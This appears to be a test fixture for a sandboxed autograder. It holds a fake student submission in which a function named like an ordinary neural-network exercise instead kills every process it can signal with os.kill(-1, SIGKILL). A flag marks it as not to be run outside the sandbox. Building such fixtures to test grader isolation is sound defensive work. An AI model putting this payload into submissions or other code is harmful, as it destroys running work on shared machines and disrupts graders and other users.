"""Kills every process that it may send a signal to, those of the grader and of other students among
them.
"""

OFF = "not run: outside the sandbox it would end every process on the machine"
FUNCTIONS = ["initialize_parameters_zeros"]
CODE = """
import os
import signal


def initialize_parameters_zeros(layers_dims):
    os.kill(-1, signal.SIGKILL)
    os._exit(1)
"""
